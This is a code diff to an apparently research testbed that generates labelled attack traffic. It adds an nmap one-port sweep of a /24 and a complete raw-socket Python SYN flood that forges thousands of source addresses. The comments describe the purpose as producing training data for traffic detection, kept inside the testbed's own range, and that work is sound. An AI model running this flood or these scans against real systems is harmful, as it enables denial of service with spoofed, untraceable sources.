@@ -18,6 +18,7 @@ table.
 from __future__ import annotations
 
 import base64
+import ipaddress
 from collections.abc import Callable
 
 from trafficlm.training.testbed.scenarios import (
@@ -38,6 +39,7 @@ from trafficlm.training.testbed.server_programs import (
     TUNNEL_ZONE,
 )
 from trafficlm.training.testbed.webapp import USER as WEB_USER
+from trafficlm.training.testbed.world import SPOOF_RANGE
 
 DIRECTORY_WORDS = (
     "admin", "backup", "config", "login", "old", "test", "dev", "api", "v1", "v2", "uploads",
@@ -69,6 +71,23 @@ def nmap_scan(kind: str) -> Callable[[Budget], Commands]:
         target = b.rng.choice((b.at(), b.at("ssh")))
         return [["nmap", "-n", "-Pn", "--send-ip", kind, *_scan_timing(b), *_ports(b), target]]
     return build
+
+
+SWEEP_PORTS = (445, 22, 23, 80, 443, 3389, 5900, 8080)
+
+
+def _dark_subnet(b: Budget) -> str:
+    """A /24 inside the spoofed range: routed to the switch and dropped there, so, like most
+    of a swept net, nothing answers (and nothing leaves the testbed)."""
+    spoof = ipaddress.ip_network(SPOOF_RANGE)
+    return str(list(spoof.subnets(new_prefix=24))[b.rng.randrange(2 ** (24 - spoof.prefixlen))])
+
+
+def nmap_sweep(b: Budget) -> Commands:
+    """One port on every address of a /24 (Zeek's address scan, a worm's or an operator's
+    sweep), unlike the other scans' many ports on one host."""
+    return [["nmap", "-n", "-Pn", "--send-ip", b.rng.choice(("-sS", "-sT")), *_scan_timing(b),
+             "-p", str(b.rng.choice(SWEEP_PORTS)), _dark_subnet(b)]]
 
 
 def hping3_scan(b: Budget) -> Commands:
@@ -219,6 +238,49 @@ def t50_flood(protocol: str, *extra: str) -> Callable[[Budget], Commands]:
         return [["t50", b.at(), "--threshold", str(b.rng.choice((2000, 5000, 10000))),
                  "--protocol", protocol, *extra, "--saddr", source]]
     return build
+
+
+MANY_SOURCE_FLOOD = """
+import ipaddress, random, socket, struct, sys, time
+target, port, count, seconds, pool, seed = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), \\
+    float(sys.argv[4]), int(sys.argv[5]), int(sys.argv[6])
+net = ipaddress.ip_network(sys.argv[7])
+rng = random.Random(seed)
+draw = lambda: socket.inet_aton(str(net.network_address + rng.randrange(1, net.num_addresses - 1)))
+sources = [draw() for _ in range(pool)] if pool else None
+out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+dst = socket.inet_aton(target)
+def checksum(data):
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    total = (total >> 16) + (total & 0xFFFF)
+    return ~(total + (total >> 16)) & 0xFFFF
+start = time.monotonic()
+for k in range(count):
+    ahead = start + k * seconds / count - time.monotonic()
+    if ahead > 0.002:
+        time.sleep(ahead)
+    if time.monotonic() - start > seconds + 1:
+        break
+    src = rng.choice(sources) if sources else draw()
+    tcp = struct.pack("!HHIIBBHHH", rng.randrange(1024, 65535), port, rng.getrandbits(32), 0,
+                      0x50, 0x02, rng.choice((64240, 29200, 65535, 8192)), 0, 0)
+    tcp = tcp[:16] + struct.pack("!H", checksum(src + dst + struct.pack("!BBH", 0, 6, 20) + tcp)) \\
+        + tcp[18:]
+    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, rng.choice((64, 128, 255)), 6, 0, src, dst)
+    out.sendto(ip + tcp, (target, 0))
+"""
+
+
+def many_source_syn_flood(b: Budget) -> Commands:
+    """SYNs from thousands of forged sources of the spoofed range (a botnet's, or a
+    --rand-source flood's, kept inside the range the testbed owns): each new source is one
+    more flow, so only what the victim sees together tells the attack."""
+    seconds = min(b.seconds, 10)
+    rate = b.rng.choice((1000, 3000, 8000))
+    pool = b.rng.choice((0, 200, 2000))  # 0: a new source for every packet
+    return [["python3", "-c", MANY_SOURCE_FLOOD, b.at(), b.rng.choice(("80", "443")),
+             str(int(rate * seconds)), str(seconds), str(pool), str(b.rng.randrange(1 << 30)),
+             SPOOF_RANGE]]
 
 
 def _http_port(b: Budget) -> list[str]:
@@ -373,7 +435,9 @@ ATTACK_SLOTS: dict[str, tuple[Scenario, ...]] = {
     "portscan": (*(_variant(f"nmap{k}", "PortScan", ("nmap",), nmap_scan(k), f"nmap {k}")
                    for k in ("-sS", "-sT", "-sF", "-sX", "-sN", "-sA")),
                  _variant("hping3_scan", "PortScan", ("hping3",), hping3_scan, "hping3 --scan"),
-                 _variant("masscan", "PortScan", ("masscan",), masscan, "masscan")),
+                 _variant("masscan", "PortScan", ("masscan",), masscan, "masscan"),
+                 _variant("nmap_sweep", "PortScan", ("nmap",), nmap_sweep,
+                          "nmap, one port of a /24")),
     "version_scan": (
         _variant("nmap-sV", "ServiceScan", ("nmap",), nmap_service, "nmap -sV"),
         _variant("nmap-A", "ServiceScan", ("nmap",), nmap_aggressive, "nmap -A")),
@@ -413,7 +477,9 @@ ATTACK_SLOTS: dict[str, tuple[Scenario, ...]] = {
         _variant("hping3_syn", "DoS Syn Flood", ("hping3",),
                  hping3_flood(["-S"], _http_port), "hping3 -S"),
         _variant("t50_syn", "DoS Syn Flood", ("t50",),
-                 t50_flood("TCP", "--syn", "--dport", "80"), "t50 TCP SYN")),
+                 t50_flood("TCP", "--syn", "--dport", "80"), "t50 TCP SYN"),
+        _variant("many_source_syn", "DoS Syn Flood", ("python3",), many_source_syn_flood,
+                 "SYNs from thousands of forged sources")),
     "udp_flood": (
         _variant("hping3_udp", "DoS UDP Flood", ("hping3",),
                  hping3_flood(["--udp"], _random_port), "hping3 --udp"),
